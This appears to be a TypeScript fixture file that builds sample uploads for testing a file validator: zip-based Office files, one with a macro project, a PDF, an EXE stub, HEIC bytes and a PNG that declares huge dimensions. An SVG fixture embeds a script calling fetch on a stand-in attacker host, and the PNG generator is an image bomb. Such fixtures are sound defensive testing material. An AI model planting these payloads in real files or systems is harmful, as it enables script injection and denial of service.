import { crc32 } from 'node:zlib';

/** A zip file of empty files. */
export const zipOf = (...names: readonly string[]): Buffer => {
  const locals: Buffer[] = [];
  const entries: Buffer[] = [];
  let at = 0;
  for (const name of names) {
    const local = record(0x04034b50, 30, [[26, name.length]], name);
    entries.push(record(0x02014b50, 46, [[28, name.length]], name, [[42, at]]));
    locals.push(local);
    at += local.length;
  }
  const directory = Buffer.concat(entries);
  const counts = [8, 10].map((place): Value => [place, names.length]);
  const places: readonly Value[] = [
    [12, directory.length],
    [16, at],
  ];
  return Buffer.concat([...locals, directory, record(0x06054b50, 22, counts, '', places)]);
};

type Value = readonly [place: number, value: number];

const record = (
  mark: number,
  size: number,
  shorts: readonly Value[],
  name: string,
  longs: readonly Value[] = [],
): Buffer => {
  const bytes = Buffer.alloc(size);
  bytes.writeUInt32LE(mark);
  for (const [place, value] of shorts) bytes.writeUInt16LE(value, place);
  for (const [place, value] of longs) bytes.writeUInt32LE(value, place);
  return Buffer.concat([bytes, Buffer.from(name)]);
};

const CONTENTS = '[Content_Types].xml';
export const docx = zipOf(CONTENTS, 'word/document.xml', 'docProps/core.xml');
export const xlsx = zipOf(CONTENTS, 'xl/workbook.xml');
export const withMacros = zipOf(CONTENTS, 'xl/workbook.xml', 'xl/vbaProject.bin');

export const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n');
export const exe = Buffer.concat([Buffer.from('MZ\u0090\u0000\u0003', 'latin1'), Buffer.alloc(500)]);
export const svg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example")</script></svg>',
);
export const heic = Buffer.from('\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000mif1heic', 'latin1');

/** A PNG of a few bytes that says it is as large as this. */
export const pngBomb = (side: number): Buffer => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2], 8);
  const start = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([start, chunk('IHDR', header), chunk('IDAT', Buffer.alloc(64)), chunk('IEND', Buffer.alloc(0))]);
};

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type), data]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
};
